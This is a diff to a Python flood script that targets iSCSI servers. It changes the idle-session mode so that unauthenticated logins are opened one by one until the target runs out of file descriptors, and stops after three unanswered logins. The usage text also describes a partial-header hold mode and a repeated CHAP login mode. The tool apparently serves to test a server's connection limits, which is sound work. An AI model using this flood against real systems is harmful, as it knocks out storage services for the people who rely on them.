@@ -8,9 +8,10 @@
       N connections each sending one 48-byte Login Request header that
       announces a BYTES data segment (and then nothing more), held S seconds.
   flood.py session --port P --count N [--sources ...] [--hold S]
-      N connections that log in (Normal session, no authentication) and
-      then sit idle, held S seconds: descriptors the caps before login do
-      not cover, to run the target out of them.
+      Up to N connections that log in one after another (Normal session, no
+      authentication; stops after 3 unanswered logins) and then sit idle,
+      held S seconds: descriptors the caps before login do not cover, to run
+      the target out of them.
   flood.py chap  --port P --count N --user U --secret S [--sources ...]
       N CHAP logins (MD5) with the given credentials, one after another.
 
@@ -108,32 +109,30 @@ def hold_many(args, payload):
 
 
 def sessions(args):
-    # Every login is sent first and the answers collected afterwards, so a
-    # target that has run out of descriptors (logins waiting in its backlog)
-    # costs one deadline, not one time-out per connection.
+    # One login after another (each answered before the next), so that every
+    # session holds a descriptor of the target; once three in a row get no
+    # answer the target is out of descriptors and the flood stops growing.
     srcs = sources(args.sources)
-    sent, failed = [], 0
+    socks, failed, in_a_row = [], 0, 0
     for i in range(args.count):
+        s = None
         try:
-            s = connect(srcs[i % len(srcs)], args.port)
+            s = connect(srcs[i % len(srcs)], args.port, timeout=0.5)
             s.sendall(login_pdu(0x80 | 1 << 2 | 3, text([
                 ("InitiatorName", "iqn.2025-01.org.example:session-%d" % i), ("SessionType", "Normal"),
                 ("TargetName", args.target)])))
-            sent.append(s)
-        except OSError:
-            failed += 1
-    deadline = time.monotonic() + 2.0
-    socks = []
-    for s in sent:
-        try:
-            s.settimeout(max(0.01, deadline - time.monotonic()))
             bhs, _ = recv_pdu(s)
             if bhs[36] != 0:
                 raise ConnectionError("login refused")
             socks.append(s)
+            in_a_row = 0
         except (OSError, ConnectionError):
             failed += 1
-            s.close()
+            in_a_row += 1
+            if s is not None:
+                s.close()
+            if in_a_row == 3:
+                break
     time.sleep(args.hold)
     kept = sum(1 for s in socks if still_open(s))
     for s in socks:
